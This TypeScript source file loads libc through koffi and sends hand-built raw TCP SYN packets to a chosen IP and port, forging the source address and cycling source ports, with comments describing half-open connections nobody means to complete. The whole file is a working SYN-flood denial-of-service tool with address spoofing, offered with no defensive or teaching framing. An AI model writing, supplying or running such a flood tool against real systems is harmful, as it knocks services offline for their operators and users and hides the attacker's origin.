import koffi from "koffi";

const inet = 2;
const raw = 3;
/** The sender writes the header of IP too. */
const headerIncluded = 255;
const tcp = 6;
const syn = 0x02;

const library = koffi.load("libc.so.6");
const openSocket = library.func("int socket(int domain, int type, int protocol)");
const sendTo = library.func(
  "int64_t sendto(int fd, const void *data, size_t length, int flags, const void *address, uint32_t addressLength)",
);
const closeSocket = library.func("int close(int fd)");

/** Sends first segments of connections that nobody means to open, each from another address or port. Needs root. */
export function sendHalfOpen(
  { ip, port }: { readonly ip: string; readonly port: number },
  sources: readonly string[],
  count: number,
): void {
  const socket: number = openSocket(inet, raw, headerIncluded);
  const destination = bytesOf(ip);
  const address = Buffer.alloc(16);
  address.writeUInt16LE(inet, 0);
  destination.copy(address, 4);
  for (let sent = 0; sent < count; sent += 1) {
    const source = bytesOf(sources[sent % sources.length] ?? "");
    const sourcePort = 1_024 + (Math.floor(sent / sources.length) % 64_000);
    const packet = segment(source, destination, sourcePort, port);
    sendTo(socket, packet, packet.length, 0, address, address.length);
  }
  closeSocket(socket);
}

function segment(source: Buffer, destination: Buffer, sourcePort: number, port: number): Buffer {
  const header = Buffer.from([0x45, 0, 0, 40, 0, 0, 0, 0, 64, tcp, 0, 0, ...source, ...destination]);
  const body = Buffer.alloc(20);
  body.writeUInt16BE(sourcePort, 0);
  body.writeUInt16BE(port, 2);
  body.writeUInt32BE(sourcePort, 4);
  body.set([0x50, syn, 0xff, 0xff], 12);
  const pseudo = Buffer.from([...source, ...destination, 0, tcp, 0, body.length]);
  body.writeUInt16BE(checksum(Buffer.concat([pseudo, body])), 16);
  return Buffer.concat([header, body]);
}

function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += bytes.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

function bytesOf(ip: string): Buffer {
  return Buffer.from(ip.split(".").map(Number));
}
